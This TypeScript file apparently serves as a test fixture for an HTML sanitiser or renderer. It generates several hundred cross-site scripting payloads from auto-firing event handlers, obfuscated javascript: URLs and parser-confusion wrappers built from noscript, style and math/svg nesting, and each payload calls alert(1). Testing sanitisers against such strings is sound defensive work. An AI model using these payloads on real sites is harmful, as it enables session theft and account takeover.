import { PAYLOADS } from '../render-payloads.ts';

/** Elements that run a script as soon as they are in a page, without anybody's doing. */
const STARTERS: readonly string[] = [
  'img src=x onerror',
  'img srcset=x onerror',
  'image src=x onerror',
  'svg onload',
  'body onload',
  'body onpageshow',
  'iframe onload',
  'iframe srcdoc=x onload',
  'style onload',
  'script onerror src=x',
  'object data=x onerror',
  'embed src=x onerror',
  'link rel=stylesheet href=x onerror',
  'video src=x onerror',
  'audio src=x onerror',
  'video poster=x onerror><source onerror',
  'input autofocus onfocus',
  'input type=image src=x onerror',
  'textarea autofocus onfocus',
  'select autofocus onfocus',
  'button autofocus onfocus',
  'a tabindex=1 autofocus onfocus',
  'p contenteditable autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'svg><image href=x onerror',
  'svg><animate attributeName=x dur=1s onbegin',
  'svg><set attributeName=x to=1 onbegin',
  'svg><style onload',
  'math><mtext></mtext><img src=x onerror',
];
/** Ways to write the attribute that a parser reads alike and a pattern may not. */
const WRITINGS: readonly ((starter: string) => string)[] = [
  (starter) => `<${starter}=alert(1)>`,
  (starter) => `<${starter.toUpperCase()}="alert(1)">`,
  (starter) => `<${starter.replaceAll(' ', '/')}='alert(1)'>`,
  (starter) => `<${starter.replaceAll(' ', '\n\t')}\f=\f&#97;lert(1)>`,
  (starter) => `<${starter}=alert(1) `,
];

/** Elements that take an address which runs when it is opened. */
const OPENERS: readonly ((address: string) => string)[] = [
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<a href="${address}">words</a>`,
  (address) => `<form action="${address}"><button>words</button></form>`,
  (address) => `<svg><a href="${address}"><text>words</text></a></svg>`,
];
const ADDRESSES: readonly string[] = [
  'javascript:parent.alert(1)',
  'JaVaScRiPt:parent.alert(1)',
  ' javascript:parent.alert(1)',
  '&#1;javascript:parent.alert(1)',
  'java&Tab;script:parent.alert(1)',
  'java&NewLine;script&colon;parent.alert(1)',
  '&#x6A;avascript:parent.alert(1)',
  'javascript://a.example/%0aparent.alert(1)',
  'javascript:/*--></title></style></textarea></script>*/parent.alert(1)',
];

/** Places whose end, as one parser sees it and another does not, sets what is in them free. */
const PLACES: readonly (readonly [string, string])[] = [
  ['<noscript><p title="</noscript>', '">'],
  ['<textarea><p title="</textarea>', '">'],
  ['<title><p title="</title>', '">'],
  ['<xmp><p title="</xmp>', '">'],
  ['<noembed><p title="</noembed>', '">'],
  ['<noframes><p title="</noframes>', '">'],
  ['<style><p title="</style>', '">'],
  ['<iframe><p title="</iframe>', '">'],
  ['<!--><p title="-->', '">'],
  ['<!-- --!>', '-->'],
  ['<svg><style><p title="</style>', '">'],
  ['<math><mtext><table><mglyph><style><!--</style>', '--></table>'],
  ['<math><annotation-xml encoding=text/html><style>', '</style>'],
  ['<svg><desc><noscript>', '</noscript>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<table><tr><td><table><a>', '</a></table>'],
  ['<select><option><style></option></select>', '</style>'],
  ['<template><style></template>', '</style>'],
  ['<p><svg><foreignObject><p>', '</p></svg>'],
  ['<a href="x"><table><caption><a>', '</table>'],
  ['<details><summary><ruby><rtc>', '</details>'],
  ['&lt;p&gt;</p><pre><code>', '</code></pre>'],
  ['<frameset><noframes></frameset>', '</noframes>'],
  ['<svg></p><title><![CDATA[', ']]></svg>'],
];
const CORES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
];

/** Payloads of all kinds, a few hundred, each of which calls `alert` where it works. */
export const ACTIVE_PAYLOADS: readonly string[] = [
  ...PAYLOADS,
  ...STARTERS.flatMap((starter) => WRITINGS.map((write) => write(starter))),
  ...OPENERS.flatMap((open) => ADDRESSES.map(open)),
  ...PLACES.flatMap(([before, behind]) => CORES.map((core) => `${before}${core}${behind}`)),
];
